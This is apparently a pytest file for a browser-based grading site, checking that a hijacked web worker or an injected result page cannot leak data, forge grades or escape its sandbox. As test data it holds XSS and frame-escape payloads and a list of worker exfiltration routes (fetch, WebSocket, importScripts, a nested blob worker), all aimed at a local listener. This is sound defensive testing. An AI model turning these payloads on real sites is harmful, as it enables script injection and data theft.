"""A file that has taken over its worker: nothing of the page is reached, and nothing leaves."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from grader.course.shipped import ROOT
from tests.browser.serving import Student, made, pyodide, served
from tests.submissions import PLAIN

WORKER = (ROOT / "grader" / "places" / "packs" / "site" / "worker.js").read_text()
TAKEN_OVER = """
const honest = self.onmessage;
const say = (...words) => postMessage(words);
self.onmessage = async (event) => {
  if (event.data[0] !== "check") return honest(event);
  const { request, files } = event.data[1];
  ATTACK
};
"""
FORGED = "<script>parent.document.title = 'taken'</script><img src='LEAK'>"
DATA = {
    "a page": f"""say("done", JSON.stringify({{ html: `{FORGED}`, changes: [], name: "x", grade: {{}} }}));""",
    "a page as a grade": f"""say("done", JSON.stringify({{ grade: {{ html: `{FORGED}` }} }}));""",
    "a policy of another form": f"""const told = JSON.parse(check(JSON.stringify(request), files, page));
    told.grade.policy = `</script>{FORGED}`;
    say("done", JSON.stringify(told));""",
    "no JSON": 'say("done", "{");',
    "no text": 'say("done", { html: 1 });',
    "nothing": "postMessage(null);",
    "no list": "postMessage({ length: 2, 0: 'done' });",
    "an unknown kind": 'say("constructor", "x");',
    "another type": 'say("judged", {}, []);',
    "an object for a board": 'say("asking", 1, "minimax", { toString: 1 }, 5);',
    "a flood": 'for (;;) say("judged", 1, 2);',
    "a flood after a question": 'say("asking", 1, "minimax", "", 5); for (;;) say("judged", 1, 2);',
    "much text": 'for (;;) say("heard", 1, "t", "x".repeat(1e6), 0);',
}
WAYS_OUT = {
    "fetch": "await WorkerGlobalScope.prototype.fetch.call(self, 'LEAK')",
    "XMLHttpRequest": "const one = new XMLHttpRequest(); one.open('GET', 'LEAK', false); one.send()",
    "WebSocket": "await new Promise((done, no) => { const one = new WebSocket('LEAK'.replace('http', 'ws'));"
    " one.onopen = done; one.onerror = no; })",
    "EventSource": "await new Promise((done, no) => { const one = new EventSource('LEAK');"
    " one.onopen = done; one.onerror = no; })",
    "importScripts": "importScripts('LEAK')",
    "import": "await import('LEAK')",
    "a worker of its own": "await new Promise((done, no) => { const one = new Worker(URL.createObjectURL(new Blob("
    "[`fetch('LEAK').then(() => postMessage(1), () => postMessage(0))`])));"
    " one.onmessage = ({ data }) => data ? done() : no(); one.onerror = no; })",
    "indexedDB": "await new Promise((done, no) => { const one = indexedDB.open('x'); one.onsuccess = done; one.onerror = no; })",
    "caches": "await caches.open('x')",
    "eval": "eval('1')",
}


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """Give an address that answers everybody, and what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/leak", asked
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("boundary")
    with served(made(folder, "--pyodide", str(pyodide()))) as address:
        yield address


def checked(browser: Any, address: str, attack: str) -> Student:
    """Return a student whose file has taken over the worker, after a check."""
    context = browser.new_context()
    body = WORKER + TAKEN_OVER.replace("ATTACK", attack)
    context.route("**/worker.js", lambda route: route.fulfill(body=body, content_type="text/javascript"))
    student = Student(browser, address, context=context)
    student.page.evaluate("localStorage.setItem('secret', '1')")
    student.drop("tictactoe.py", PLAIN)
    return student


@pytest.mark.exhaustive(beyond=3)
@pytest.mark.parametrize("what", DATA)
def test_what_a_worker_says_is_data(browser: Any, address: str, what: str) -> None:
    with listening() as (leak, asked):
        student = checked(browser, address, DATA[what].replace("LEAK", leak))
        assert "changes what the check itself runs with" in student.problem
        assert student.page.title() != "taken" and student.page.locator("#page").is_hidden()
        assert asked == []
        student.context.close()


@pytest.mark.exhaustive
def test_a_grade_that_is_forged_is_text(browser: Any, address: str) -> None:
    attack = f"""const told = JSON.parse(check(JSON.stringify(request), files, page));
    told.grade.title = `{FORGED}`;
    told.grade.notes = [`{FORGED}`];
    say("done", JSON.stringify(told));"""
    with listening() as (leak, asked):
        student = checked(browser, address, attack.replace("LEAK", leak))
        frame = student.page.frame_locator("#page")
        assert student.problem == "" and frame.locator("img").count() == 0
        assert FORGED.replace("LEAK", leak) in frame.locator("h1").inner_text()
        assert student.page.title() != "taken" and asked == []
        student.context.close()


@pytest.mark.exhaustive(beyond=3)
@pytest.mark.parametrize("way", WAYS_OUT)
def test_nothing_leaves_a_worker(browser: Any, address: str, way: str) -> None:
    attack = f"""let told = "out";
    try {{ {WAYS_OUT[way]}; }} catch {{ told = "refused"; }}
    say("done", JSON.stringify({{ problem: `${{told}} ${{self.origin}}` }}));"""
    with listening() as (leak, asked):
        student = checked(browser, address, attack.replace("LEAK", leak))
        assert student.problem == "refused null"  # of no origin
        assert asked == []
        student.context.close()


ESCAPES = {
    "script": "<script>parent.postMessage(['height', 7], '*'); top.location = 'LEAK'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=LEAK'>",
    "image": "<img src='LEAK'>",
    "frame": "<iframe src='LEAK'></iframe>",
    "form": "<form action='LEAK'><button id=go>go</button></form>",
    "link to the top": "<a id=go href='LEAK' target=_top>go</a>",
    "link elsewhere": "<a id=go href='LEAK' target=_blank>go</a>",
    "link inside": "<a id=go href='LEAK'>go</a>",
}


@pytest.mark.exhaustive(beyond=2)
@pytest.mark.parametrize("how", ESCAPES)
def test_a_page_in_the_frame_goes_nowhere(browser: Any, address: str, how: str) -> None:
    """Given any page in the place of a result, as if our own had a hole: it reads nothing and goes nowhere."""
    with listening() as (leak, asked):
        student = Student(browser, address)
        html = f"<!doctype html><body>{ESCAPES[how].replace('LEAK', leak)}</body>"
        student.page.evaluate(
            "(html) => sessionStorage.setItem('last', JSON.stringify({ name: 'x', html, changes: [] }))", html
        )
        student.reload()
        student.page.locator("#result:not([hidden])").wait_for()
        student.page.wait_for_timeout(300)
        frame = next((one for one in student.page.frames if one.url == "about:srcdoc"), None)
        if frame and frame.locator("#go").count():
            frame.locator("#go").click()
        student.page.wait_for_timeout(300)
        assert asked == [] and student.page.url == address
        assert student.context.pages == [student.page]
        if frame and not frame.is_detached():
            reads = "() => { try { return parent.localStorage.length } catch (error) { return error.name } }"
            assert frame.evaluate(reads) == "SecurityError" and frame.evaluate("origin") == "null"
        student.context.close()


def test_a_site_has_no_word_of_blobs_for_its_page(tmp_path: Path) -> None:
    """Given a site: the page's policy allows neither blobs nor WebAssembly, and the frame's no connection."""
    folder = made(tmp_path)
    page, engine = ((folder / name).read_text() for name in ("index.html", "engine.html"))
    assert "blob:" not in page and "wasm" not in page and 'sandbox="allow-scripts"' in page
    assert "connect-src 'none'" in engine.partition("<title>")[0] and "'self'" not in engine
